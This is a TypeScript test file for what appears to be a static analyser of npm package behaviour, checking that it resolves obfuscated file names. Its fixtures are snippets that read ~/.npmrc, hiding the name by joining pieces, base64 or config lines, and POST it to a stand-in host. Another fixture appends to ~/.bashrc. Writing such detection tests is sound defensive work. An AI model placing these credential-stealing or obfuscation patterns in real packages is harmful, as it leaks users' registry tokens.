import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf } from '../../test/behave.ts';

const HOME = `const fs = require('fs'), os = require('os'), path = require('path'); const send = body => fetch('https://a.invalid', { method: 'POST', body });`;

/** What a package does with what its own data says. */
function deeds(files: Readonly<Record<string, unknown>>): string[] {
  const { effects } = behaviourOf({ 'package.json': { name: 'specimen', version: '1.0.0' }, ...files });
  return effects.flatMap(({ kind, target, details }) =>
    target.startsWith('<here>') || target === '' || kind === 'connects'
      ? []
      : [[kind, target, ...(details.get('script') ?? [])].join(' ').trim()],
  );
}

describe('data of the package is known as if it stood in the code', () => {
  for (const [what, code, data] of [
    [
      'pieces that are joined',
      `const c = require('./c.json'); send(fs.readFileSync(path.join(os.homedir(), c.name.join(''))));`,
      { name: ['.n', 'pm', 'rc'] },
    ],
    [
      'pieces that are put together',
      `const c = require('./c.json'); send(fs.readFileSync(path.join(os.homedir(), c.a + c.b)));`,
      { a: '.np', b: 'mrc' },
    ],
    [
      'a text that is decoded',
      `const c = require('./c.json'); send(fs.readFileSync(path.join(os.homedir(), Buffer.from(c.name, 'base64').toString())));`,
      { name: 'Lm5wbXJj' },
    ],
    [
      'what is parsed where it is read',
      `const c = JSON.parse(fs.readFileSync(path.join(__dirname, 'c.json'), 'utf8')); send(fs.readFileSync(path.join(os.homedir(), c.name.join(''))));`,
      { name: ['.n', 'pm', 'rc'] },
    ],
    [
      'lines of a text',
      `for (const line of fs.readFileSync(__dirname + '/c.json', 'utf8').split('\\n')) send(fs.readFileSync(path.join(os.homedir(), line)));`,
      '.npmrc\n.npmrc',
    ],
    [
      'lines of settings',
      `const c = Object.fromEntries(fs.readFileSync(path.join(__dirname, 'c.json'), 'utf8').trim().split('\\n').map(line => line.split('='))); send(fs.readFileSync(path.join(os.homedir(), c.name)));`,
      'name=.npmrc\n',
    ],
  ] as const)
    it(what, () => assert.ok(deeds({ 'index.js': HOME + code, 'c.json': data }).includes('reads file <home>/.npmrc')));

  it('what a promise gives', () => {
    const code = `import { readFile } from 'node:fs/promises'; import os from 'node:os'; import path from 'node:path'; const c = JSON.parse(await readFile(new URL('./c.json', import.meta.url))); await fetch('https://a.invalid', { method: 'POST', body: await readFile(path.join(os.homedir(), c.name.join(''))) });`;
    assert.ok(
      deeds({ 'index.mjs': code, 'package.json': { main: 'index.mjs' }, 'c.json': { name: ['.n', 'pm', 'rc'] } }).includes(
        'reads file <home>/.npmrc',
      ),
    );
  });

  it('a key and what stands under it', () => {
    const code = `for (const [where, what] of Object.entries(require('./c.json'))) fs.appendFileSync(path.join(os.homedir(), where), what + '\\n');`;
    assert.ok(
      deeds({ 'index.js': HOME + code, 'c.json': { '.bashrc': 'inert &' } }).some(deed => deed.startsWith('writes file <home>/.bashrc')),
    );
  });

  it('but a text that is long stays where it is', () => {
    const code = `const c = fs.readFileSync(path.join(__dirname, 'c.txt'), 'utf8').split('\\n'); send(fs.readFileSync(path.join(os.homedir(), c[0])));`;
    assert.deepEqual(deeds({ 'index.js': HOME + code, 'c.txt': `.npmrc\n${'other\n'.repeat(4_000)}` }), ['reads file <home>/*']);
  });
});
